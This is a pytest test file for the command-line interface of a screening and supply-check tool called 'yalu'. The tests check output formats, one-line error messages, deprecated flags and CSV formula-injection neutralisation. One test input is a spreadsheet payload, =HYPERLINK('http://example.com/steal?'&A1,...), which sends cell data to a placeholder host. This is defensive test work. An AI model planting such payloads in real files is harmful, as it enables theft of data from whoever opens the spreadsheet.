"""One `--format/--output` for every command that writes results, and formula-safe CSV."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from tests.interfaces.api.server import load_fixture_lists
from tests.paths import FIXTURES
from yalu.interfaces.cli.app import app

SAMPLES = Path(__file__).resolve().parents[3] / "docs" / "samples"
SHIPMENTS = SAMPLES / "shipments.csv"
SUPPLIERS = SAMPLES / "suppliers.csv"
SAMPLE_LIST = SAMPLES / "sample_list.ftm.json"
SDN = FIXTURES / "screening" / "ofac_sdn_small"
UNWRITABLE = "/nonexistent/x.csv"
HYPERLINK = '=HYPERLINK("http://example.com/steal?"&A1,"Kim Chol")'

runner = CliRunner()


def yalu(*args: str | Path, stdin: str | None = None):  # type: ignore[no-untyped-def]
    return runner.invoke(app, [str(arg) for arg in args], input=stdin)


@pytest.fixture
def lists(isolated_database: Path) -> None:
    load_fixture_lists(isolated_database)
    screened = yalu("screen", "Kang Chol")
    assert screened.exit_code == 0, screened.output


@pytest.mark.parametrize(
    "command",
    [
        ("goods", "check", SHIPMENTS, "--list-file", SAMPLE_LIST),
        ("supply", "check", SUPPLIERS, "--list-file", SAMPLE_LIST),
        ("screen", "Kim Chol"),
        ("audit", "list"),
        ("audit", "show", "1"),
    ],
)
@pytest.mark.parametrize("fmt", ["table", "csv", "json", "jsonl"])
def test_an_unwritable_output_is_one_line_and_exit_2(
    lists: None, command: tuple[str | Path, ...], fmt: str
) -> None:
    result = yalu(*command, "--format", fmt, "-o", UNWRITABLE)
    assert result.exit_code == 2, result.output
    assert result.stderr == (
        f"error: {UNWRITABLE}: cannot write the output (No such file or directory). Check the "
        "folder exists and is writable, or leave out --output for stdout.\n"
    )
    assert "Traceback" not in result.output


@pytest.mark.parametrize(
    ("command", "option", "target"),
    [
        (("goods", "check", SHIPMENTS), "--report", UNWRITABLE),
        (("supply", "check", SUPPLIERS), "--report", UNWRITABLE),
        (("supply", "check", SUPPLIERS), "--evidence", "/proc/no-such-folder"),
        (("simulate", "run", FIXTURES / "flee" / "tiny_case"), "--output", "/proc/no-such-folder"),
    ],
)
def test_reports_and_evidence_folders_fail_in_one_line_before_any_work(
    command: tuple[str | Path, ...], option: str, target: str
) -> None:
    extra = () if command[0] == "simulate" else ("--list-file", SAMPLE_LIST, "-o", "/dev/null")
    result = yalu(*command, *extra, option, target)
    assert result.exit_code == 2, result.output
    assert result.stderr.startswith(f"error: {target}: cannot ")
    assert result.stderr.count("\n") == 1 and "Traceback" not in result.output


@pytest.mark.parametrize(
    "command",
    [
        ("goods", "check", SHIPMENTS, "--list-file", SAMPLE_LIST),
        ("supply", "check", SUPPLIERS, "--list-file", SAMPLE_LIST),
        ("screen", "Kang Chol"),
        ("audit", "list"),
        ("audit", "show", "1"),
    ],
)
@pytest.mark.parametrize("fmt", ["table", "csv", "json", "jsonl"])
def test_every_command_writes_every_format_to_output(
    lists: None, tmp_path: Path, command: tuple[str | Path, ...], fmt: str
) -> None:
    out = tmp_path / f"results.{fmt}"
    result = yalu(*command, "-f", fmt, "-o", out)
    assert result.exit_code == 0, result.output
    assert result.stdout == ""
    text = out.read_text(encoding="utf-8")
    if fmt == "json":
        assert json.loads(text)
    elif fmt == "jsonl":
        assert [json.loads(line) for line in text.splitlines()]
    elif fmt == "csv":
        rows = list(csv.reader(io.StringIO(text)))
        assert len(rows) >= 2 and len({len(row) for row in rows}) == 1
    else:
        assert "┃" in text or "score" in text
    assert "\x1b[" not in text  # no terminal colours in a file


def test_a_formula_name_is_neutralised_in_screening_csv(lists: None, tmp_path: Path) -> None:
    names = tmp_path / "names.csv"
    with names.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([["name", "ref"], [HYPERLINK, "@SUM(A1:A9)"]])
    result = yalu("screen", "--input", names, "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows, result.stdout
    for row in rows:
        assert row["name"] == "'" + HYPERLINK
        assert row["ref"] == "'@SUM(A1:A9)"
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@"))
    # JSON keeps the name as given: only spreadsheets run formulas.
    as_json = yalu("screen", "--input", names, "--format", "jsonl")
    assert json.loads(as_json.stdout)["name"] == HYPERLINK


def test_formula_cells_are_neutralised_in_goods_and_supply_csv(tmp_path: Path) -> None:
    shipments = tmp_path / "shipments.csv"
    lines = SHIPMENTS.read_text(encoding="utf-8").splitlines()
    shipments.write_text("\n".join([lines[0], "=1+1" + lines[1][5:]]) + "\n", encoding="utf-8")
    goods = yalu("goods", "check", shipments, "-f", "csv", "--list-file", SAMPLE_LIST)
    assert goods.exit_code == 0, goods.output
    (row,) = csv.DictReader(io.StringIO(goods.stdout))
    assert row["id"] == "'=1+1"

    suppliers = tmp_path / "suppliers.csv"
    rows = SUPPLIERS.read_text(encoding="utf-8").splitlines()
    suppliers.write_text(
        "\n".join([rows[0], rows[1].replace("F-01,", "+F01,", 1)]) + "\n", encoding="utf-8"
    )
    supply = yalu("supply", "check", suppliers, "-f", "csv", "--list-file", SAMPLE_LIST)
    assert supply.exit_code == 0, supply.output
    (row,) = csv.DictReader(io.StringIO(supply.stdout))
    assert row["id"] == "'+F01"


def test_old_source_spelling_still_works_with_a_warning(isolated_database: Path) -> None:
    result = yalu("screen", "Chon Ma San", "--source", SDN, "--format", "jsonl")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["matches"][0]["entity_id"] == "23729"
    assert "warning: --source PATH is now --list-file PATH" in result.stderr


def test_lists_load_takes_reader_and_warns_on_the_old_format_flag() -> None:
    result = yalu("lists", "load", "--format", "ofac_sdn", SDN)
    assert result.exit_code == 0, result.output
    assert "warning: lists load --format is now --reader" in result.stderr
    result = yalu("lists", "load", "--reader", "un_xml", SDN)
    assert result.exit_code == 2


def test_simulate_scenarios_takes_format_json_and_the_old_json_flag() -> None:
    new = yalu("simulate", "scenarios", "--format", "json")
    old = yalu("simulate", "scenarios", "--json")
    assert new.exit_code == old.exit_code == 0, old.output
    assert json.loads(new.stdout) == json.loads(old.stdout)
    assert "warning: --json is now --format json" in old.stderr


def test_simulate_run_refuses_an_engine_option_given_as_output(tmp_path: Path) -> None:
    case = FIXTURES / "flee" / "tiny_case"
    result = yalu("simulate", "run", case, "-o", "hasten=2")
    assert result.exit_code == 2, result.output
    assert result.stderr.startswith("error: --output 'hasten=2' looks like an engine option.")
    assert "--option NAME=VALUE" in result.stderr


def test_minus_o_is_output_in_every_command() -> None:
    for command in (
        ("screen",),
        ("goods", "check"),
        ("supply", "check"),
        ("audit", "list"),
        ("audit", "show"),
        ("simulate", "run"),
    ):
        text = yalu(*command, "--help").stdout
        assert "-o" in text and "--output" in text, command
        options = [line for line in text.splitlines() if "-o " in line or "-o," in line]
        assert all("--output" in line for line in options), (command, options)
